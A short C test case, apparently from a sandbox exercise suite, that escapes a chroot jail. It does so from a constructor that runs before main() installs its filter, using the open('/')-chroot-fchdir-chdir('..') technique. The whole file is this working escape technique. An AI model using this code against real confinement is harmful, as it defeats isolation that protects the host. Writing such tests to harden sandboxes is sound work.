/*
 * constructor_fchdir.c - the easy way out, before the filter is there
 *
 * Attack: [34,53] leaves the chroot by a descriptor, before main() forbids that
 * Exercise: 01_chroot
 * Expect: zero; .
 * Seconds: 20
 */
#include <fcntl.h>
#include <unistd.h>

#include "escape.h"

static void __attribute__((constructor)) escape_early(void)
{
	int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), i;

	if (fd == -1 || chroot("tmp") == -1 || fchdir(fd) == -1)
		return;
	for (i = 0; i < 5000; i++)
		if (chdir("..") == -1)
			return;
	chroot(".");
}

int
chroot_escape(void)
{
	return 0;
}
